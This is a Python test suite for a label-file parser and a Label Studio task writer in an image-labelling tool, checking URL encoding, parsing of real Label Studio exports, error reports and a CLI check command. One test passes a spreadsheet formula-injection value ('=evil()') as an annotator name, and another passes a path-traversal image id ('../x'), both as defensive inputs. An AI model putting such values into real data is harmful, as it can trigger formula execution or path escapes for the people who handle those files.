        "margin",
        ids,
        [0.9, float("nan"), 0.1],
        paths,
        template,
        document_root="/p",
        strategies=["adjudication", "margin", "margin"],
        predictions={CAT[0]: ("dog", 0.75), DOG[1]: ("dog", 0.5)},
        model_version="pr-1",
    )
    assert [t["data"] for t in tasks] == [
        {
            "image": f"/files/a.jpg?p=/p/cat/a.jpg&i={CAT[0]}&r=cat/a.jpg&u=cat/a.jpg",
            "image_id": CAT[0],
            "path": "cat/a.jpg",
            "round": 3,
            "rank": 1,
            "score": 0.9,
            "strategy": "adjudication",
            "task_key": f"round-0003/{CAT[0]}",
        },
        {
            "image": f"/files/b c.png?p=/p/dog/b c.png&i={DOG[1]}&r=dog/b c.png&u=dog/b%20c.png",
            "image_id": DOG[1],
            "path": "dog/b c.png",
            "round": 3,
            "rank": 2,
            "score": None,
            "strategy": "margin",  # NaN: null
            "task_key": f"round-0003/{DOG[1]}",
        },
        {
            "image": f"/files/c.jpg?p=/p/ship/c.jpg&i={SHIP[2]}&r=ship/c.jpg&u=ship/c.jpg",
            "image_id": SHIP[2],
            "path": "ship/c.jpg",
            "round": 3,
            "rank": 3,
            "score": 0.1,
            "strategy": "margin",
            "task_key": f"round-0003/{SHIP[2]}",
        },
    ]
    # the probe's guess as a prediction Label Studio shows as a pre-annotation (and sorts by its score)
    assert tasks[0]["predictions"] == [
        {
            "model_version": "pr-1",
            "score": 0.75,
            "result": [{"from_name": "label", "to_name": "image", "type": "choices", "value": {"choices": ["dog"]}}],
        }
    ]
    assert tasks[1]["predictions"][0]["score"] == 0.5 and "predictions" not in tasks[2]
    json.dumps(tasks, allow_nan=False)  # valid JSON as written
    with pytest.raises(ValueError):
        L.label_studio_tasks(3, "margin", ids, [0.9], paths, "{path}")
    # an image outside the document root: relative to / (what a Label Studio serving from / finds)
    outside = L.label_studio_tasks(3, "margin", ids, [0.9, 0.1, 0.2], paths, "{url_path}", document_root="/else")
    assert [t["data"]["path"] for t in outside] == ["p/cat/a.jpg", "p/dog/b c.png", "p/ship/c.jpg"]
    # no pre-labels without the probe's id (the seed batch, or label_studio.prelabels: false)
    plain = L.label_studio_tasks(
        0, "centroid", ids[:1], [0.5], paths, "{url_path}", document_root="/p", predictions={CAT[0]: ("dog", 0.75)}
    )
    assert "predictions" not in plain[0]


def test_task_url_fields_agree_with_label_studios_local_files_url(tmp_path):
    # one rule for a local-files URL: the writer's {url_path} and al_core.labelstudio.urls give the same
    from al_core.labels.label_studio import url_fields
    from al_core.labelstudio.urls import LOCAL_FILES_PREFIX, local_files_url

    for name in ("plain.jpg", "c+d.jpg", "r&d.jpg", "x#1.jpg", "with space.jpg", "é.jpg", "100%.png", "a?b=c.jpg"):
        path = tmp_path / "images" / "sub dir" / name
        f = url_fields(str(path), "id", tmp_path)
        assert LOCAL_FILES_PREFIX + f["url_path"] == local_files_url(path, tmp_path), name
        assert f["relpath"] == f"images/sub dir/{name}"


def test_label_studio_task_urls_match_the_real_servers_import(tmp_path):
    # tests/data/label-studio-1.23.2/tasks.json: the import a real Label Studio 1.23.2 served every image of, with
    # its document root the image folder's parent; the writer makes the same URLs and paths
    real = json.loads((ROOT / "tests" / "data" / "label-studio-1.23.2" / "tasks.json").read_text())
    images = tmp_path / "images"
    paths = {t["data"]["image_id"]: str(images / t["data"]["path"].split("/", 1)[1]) for t in real}
    ids = list(paths)
    tasks = L.label_studio_tasks(
        1, "dropquery", ids, [0.5] * len(ids), paths, "/data/local-files/?d={url_path}", document_root=tmp_path
    )
    assert [(t["data"]["image"], t["data"]["path"]) for t in tasks] == [
        (t["data"]["image"], t["data"]["path"]) for t in real
    ]
    assert {"c%2Bd.jpg", "r%26d.jpg", "x%231.jpg", "with%20space.jpg", "%C3%A9.jpg"} <= {
        t["data"]["image"].rsplit("/", 1)[1] for t in tasks
    }


def test_label_studio_tasks_round_trip_through_the_reader(tmp_path):
    # what Label Studio exports after annotating the imported tasks is read back by the reader
    ids = [CAT[0], DOG[0]]
    tasks = L.label_studio_tasks(
        1,
        "margin",
        ids,
        [0.5, 0.25],
        {i: f"{i[:4]}.jpg" for i in ids},
        "{path}",
        predictions={i: ("cat", 0.5) for i in ids},
        model_version="p1",
    )
    for n, (t, label) in enumerate(zip(tasks, ["cat", "skip"]), 1):
        t.update(id=n, annotations=[ls_ann(n, label)])
    p = parse(tmp_path, json.dumps(tasks), name="export.json")
    assert p.ok, p.errors
    assert [(r.image_id, r.label, r.is_skip) for r in p.rows] == [(CAT[0], "cat", False), (DOG[0], "skip", True)]


# ---------------------------------------------------------------- formats agree
def test_csv_jsonl_and_label_studio_parse_identically(tmp_path):
    data = [
        (CAT[0], "cat", "alice", "1"),
        (DOG[0], "dog", "bob", "2"),
        (SHIP[0], "skip", "alice", "3"),
        (CAT[1], "cat", "=evil()", "4"),
    ]
    c = parse(tmp_path, csv_text(data, header=("image_id", "label", "annotator", "annotation_id")), name="a.csv")
    j = parse(
        tmp_path,
        jl(*[{"image_id": i, "label": lab, "annotator": a, "annotation_id": n} for i, lab, a, n in data]),
        name="a.jsonl",
    )
    s = parse(
        tmp_path,
        ls_text(
            [
                ls_task(100 + k, i, [ls_ann(int(n), lab, by={"id": k, "email": a})])
                for k, (i, lab, a, n) in enumerate(data)
            ]
        ),
        name="a.json",
    )
    assert c.ok and j.ok and s.ok
    assert (c.format, j.format, s.format) == ("csv", "jsonl", "label_studio")

    def no_line(p):
        return [(r.image_id, r.label, r.is_skip, r.annotator, r.annotation_id, r.note) for r in p.rows]

    assert no_line(c) == no_line(j) == no_line(s)
    assert {k: v for k, v in c.summary().items() if k not in ("file", "sha256", "format")} == {
        k: v for k, v in j.summary().items() if k not in ("file", "sha256", "format")
    }


def test_content_decides_the_format(tmp_path):
    p = parse(tmp_path, jl({"image_id": CAT[0], "label": "cat"}), name="labels.csv")
    assert p.ok and p.format == "jsonl"
    p = parse(tmp_path, csv_text([(CAT[0], "cat", "a")]), name="labels.json")
    assert p.ok and p.format == "csv"


# ---------------------------------------------------------------- limits and reports
def test_errors_beyond_the_cap_are_counted(tmp_path, monkeypatch):
    monkeypatch.setattr(L.results, "MAX_ERRORS_KEPT", 5)  # the error collector's cap
    p = parse(tmp_path, csv_text([(UNKNOWN, "cat", "a")] * 12))
    assert len(p.errors) == 5 and p.errors_dropped == 7 and p.n_errors == 12 and not p.ok


def test_long_text_fields_are_errors(tmp_path):
    long = "n" * (L.MAX_FIELD_CHARS + 1)
    e = only_error(
        parse(tmp_path, csv_text([(CAT[0], "cat", "a", long)], header=("image_id", "label", "annotator", "note")))
    )
    assert (e.line, e.field) == (2, "note") and f"the limit is {L.MAX_FIELD_CHARS}" in e.message


def test_write_error_report(tmp_path):
    rows = [(UNKNOWN, "cat", "a")] * 30 + [("../x", "cat", "a")]
    p = parse(tmp_path, csv_text(rows))
    dest = tmp_path / "rejected" / "labels.csv.errors.json"
    out = write_error_report(p, dest, max_errors=10)
    assert out == dest and sorted(x.name for x in dest.parent.iterdir()) == [dest.name]  # no temp file left
    rep = json.loads(dest.read_text())
    assert rep["file"] == p.path and rep["sha256"] == p.sha256 and rep["format"] == "csv"
    assert rep["n_errors"] == 31 and rep["n_listed"] == 10 and rep["n_omitted"] == 21
    assert rep["errors"][0] == {
        "line": 2,
        "field": "image_id",
        "value_preview": repr(UNKNOWN),
        "message": "unknown image_id: no image with this sha256 in the store",
        "task_id": None,
        "annotation_id": None,
    }
    assert rep["n_warnings"] == 0 and rep["warnings"] == []
    # the default cap
    assert write_error_report(p, dest) == dest
    assert json.loads(dest.read_text())["n_listed"] == 31 and L.MAX_REPORT_ERRORS >= 31


def test_labels_module_never_imports_dagster():
    code = (
        "import sys, al_core.labels, al_core.cli.labels; "
        "bad = [m for m in sys.modules if m.split('.')[0] in ('dagster', 'duckdb', 'torch')]; "
        "assert not bad, bad"
    )
    subprocess.run([sys.executable, "-c", code], check=True, cwd=ROOT, timeout=60)


def test_bad_arguments_raise():
    with pytest.raises(ValueError):
        parse_label_file("x.csv", classes=("cat", "skip"), known_image_ids=KNOWN)
    with pytest.raises(ValueError):
        parse_label_file("x.csv", classes=(), known_image_ids=KNOWN)


# ---------------------------------------------------------------- al labels check
@pytest.fixture(scope="module")
def project(tmp_path_factory):
    """A small project: 2 cat + 2 dog sample images scanned into a store (classes from the folders)."""
    from al_core.catalogue.store import Store
    from al_core.ingest.scan import scan

    root = tmp_path_factory.mktemp("proj")
    for cls in ("cat", "dog"):
        (root / "images" / cls).mkdir(parents=True)
        for f in _sample_files(cls, 2):
            shutil.copy(f, root / "images" / cls / f.name)
    (root / "al.yaml").write_text("images:\n  root: images\npaths:\n  data_dir: data\nstore:\n  lock_timeout_s: 2\n")
    scan(Store(root / "data" / "warehouse.duckdb"), root=root / "images")
    return root


def run_check(capsys, *argv):
    from al_core.cli.labels import main

    rc = main(["check", *map(str, argv)])
    out = capsys.readouterr()
    return rc, out.out, out.err


def test_check_valid_file(project, capsys):
    f = project / "ok.csv"
    f.write_text(csv_text([(CAT[0], "cat", "alice"), (DOG[0], "skip", "bob"), (CAT[0], "cat", "alice")]))
    rc, out, _ = run_check(capsys, f, "--config", project / "al.yaml")
    assert rc == 0
    assert "valid csv file" in out and "2 labels: cat 1; skips: 1" in out and "counted once" in out
    rc, out, _ = run_check(capsys, f, "--config", project / "al.yaml", "--json")
    s = json.loads(out)
    assert rc == 0 and s["ok"] and s["labels"] == {"cat": 1} and s["skips"] == 1 and s["decisions"] == []
    assert s["warnings"] == [] and s["n_warnings"] == 0


def test_check_bad_file(project, capsys):
    f = project / "bad.csv"
    # SHIP is not in this store, and ship is not a class of this project (classes from its folders)
    f.write_text(csv_text([(CAT[0], "cat", "a"), (SHIP[0], "dog", "a"), (DOG[1], "ship", "a")]))
    rc, out, _ = run_check(capsys, f, "--config", project / "al.yaml")
    assert rc == 1
    assert "REJECTED, 2 error(s)" in out and "line 3 [image_id]: unknown image_id" in out
    assert "line 4 [label]: label is not a class" in out and "classes: cat, dog" in out
    rc, out, _ = run_check(capsys, f, "--config", project / "al.yaml", "--json")
    rep = json.loads(out)
    assert rc == 1
    classes, known = ("cat", "dog"), {CAT[0], CAT[1], DOG[0], DOG[1]}
    assert rep == L.error_report(parse_label_file(f, classes=classes, known_image_ids=known))
    assert [(e["line"], e["field"]) for e in rep["errors"]] == [(3, "image_id"), (4, "label")]


def test_check_label_studio_file_reports_answers_and_warnings(project, capsys):
    f = project / "export.json"
    f.write_text(
        ls_text(
            [
                ls_task(
                    7,
                    CAT[0],
                    [
                        ls_ann(1, "cat", updated="2024-06-01T00:00:00Z"),
                        ls_ann(2, "dog", by=2),
                        ls_ann(3, "dog", by=3, cancelled=True),
                    ],
                ),
                ls_task(8, DOG[0], [ls_ann(4, None)]),
            ]
        )
    )
    rc, out, _ = run_check(capsys, f, "--config", project / "al.yaml")
    assert rc == 0 and "1 cancelled" in out and "each a skip" in out
    assert "task 7: 3 answers kept, newest first: #1 'cat' by 1, #3 'skip' by 3, #2 'dog' by 2" in out
    assert "WARNING task 8, annotation 4 (line " in out and "[annotations[0].result]: empty annotation" in out


def test_check_with_db_option_and_missing_database(project, tmp_path, capsys, monkeypatch):
    f = tmp_path / "ok.csv"
    f.write_text(csv_text([(DOG[0], "dog", "a")]))
    monkeypatch.chdir(tmp_path)  # no al.yaml here: defaults, classes from the store's ground truth
    monkeypatch.delenv("AL_CONFIG", raising=False)
    rc, out, _ = run_check(capsys, f, "--db", project / "data" / "warehouse.duckdb")
    assert rc == 0, out
    rc, out, err = run_check(capsys, f, "--db", tmp_path / "none" / "warehouse.duckdb")
    assert rc == 2 and "no database at" in err and "al ingest" in err and not (tmp_path / "none").exists()
    rc, _, err = run_check(capsys, tmp_path / "missing.csv", "--db", project / "data" / "warehouse.duckdb")
    assert rc == 2 and "does not exist" in err
    rc, _, err = run_check(capsys, f, "--config", tmp_path / "nope.yaml")
    assert rc == 2 and "does not exist" in err


def test_labels_cli_usage_and_registration(capsys):
    from al_core import cli
    from al_core.cli.labels import SUBCOMMANDS, main

    assert cli.COMMANDS["labels"][0] == "al_core.cli.labels"
    assert "check" in SUBCOMMANDS
    assert main([]) == 2
    assert main(["--help"]) == 0
    assert main(["check"]) == 2  # FILE missing
    assert main(["frobnicate"]) == 2
    capsys.readouterr()


# ---------------------------------------------------------------- the real Label Studio 1.23.2 exports
LS_DATA = ROOT / "tests" / "data" / "label-studio-1.23.2"
LS_FILES = [
    "export/JSON.json",
    "export/JSON-all.json",
    "export/JSON_MIN.json",
    "export/JSON_MIN-all.json",
    "export/CSV.csv",
    "export/CSV-all.csv",
    "export/TSV.csv",
    "export/TSV-all.csv",
    *(f"target-per-task/{p.name}" for p in sorted((LS_DATA / "target-per-task").iterdir())),
    *(f"target-per-annotation/{p.name}" for p in sorted((LS_DATA / "target-per-annotation").iterdir())),
]


@pytest.mark.parametrize("rel", LS_FILES)
def test_every_real_label_studio_export_reads_the_same_answers(tmp_path, rel):
    # what tests/test_labelstudio_server.py saved from a real server, its image ids (img0000..) made sha256s;
    # tests/test_label_studio_exports.py delivers the same files through the loop
    ids = {f"img{i:04d}": hashlib.sha256(f"img{i:04d}".encode()).hexdigest() for i in range(6)}
    data = (LS_DATA / rel).read_bytes()
    for fake, real in ids.items():
        data = data.replace(fake.encode(), real.encode())
    p = parse(
        tmp_path, data, name=rel.replace("/", "-"), classes=("cat", "dog", "ship"), known_image_ids=set(ids.values())
    )
    assert p.ok and p.errors == (), p.errors
    scenario = json.loads((LS_DATA / "scenario.json").read_text())
    users = scenario["users"]
    expected = {
        (a["annotation_id"], a["task_id"], a["choice"] or "skip", a["lead_time"], a["annotator"])
        for a in scenario["annotations"]
        if a["what"] != "empty"
    }
    got = {
        (int(r.annotation_id), int(r.task_id), r.label, r.seconds, users.get(r.annotator, r.annotator)) for r in p.rows
    }
    if rel.startswith("target"):
        task = int(rel.split("/")[1].split(".")[0])
        by = "task_id" if rel.startswith("target-per-task") else "annotation_id"
        expected = {e for e in expected if e[0 if by == "annotation_id" else 1] == task}
    elif not rel.startswith("export/JSON.") and not rel.startswith("export/JSON-"):
        expected = {e for e in expected if e[2] != "skip"}  # JSON_MIN, CSV, TSV leave the skipped task out
    assert got == expected
    assert all(r.seconds_source == "lead_time" and r.annotated_at is not None for r in p.rows)
    assert (
        p.format
        == {
            "export/JSON": "label_studio",
            "export/JSON_MIN": "label_studio_min",
            "export/CSV": "label_studio_csv",
            "export/TSV": "label_studio_tsv",
            "target-per-task": "label_studio_task",
            "target-per-annotation": "label_studio_annotation",
        }[rel.split("/")[0] if rel.startswith("target") else rel.rsplit(".", 1)[0].removesuffix("-all")]
    )
    # the empty Submit (task 4, annotation 3): a warning naming both, wherever the file holds it
    holds_empty = not rel.startswith("target") or rel.split("/")[1] in ("4.json", "3")
    assert [(w.task_id, w.annotation_id) for w in p.warnings] == ([("4", "3")] if holds_empty else [])
